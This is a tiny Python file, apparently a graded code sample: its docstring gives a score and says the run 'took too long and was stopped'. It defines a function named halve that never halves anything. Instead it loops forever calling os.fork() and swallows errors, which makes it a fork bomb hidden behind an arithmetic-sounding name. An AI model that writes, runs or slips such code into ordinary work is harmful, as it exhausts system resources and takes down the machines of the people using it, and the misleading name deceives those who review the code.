"""Starts processes that start processes.

score: 2
seen: took too long and was stopped
"""

# %% halve
import os


def halve(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass
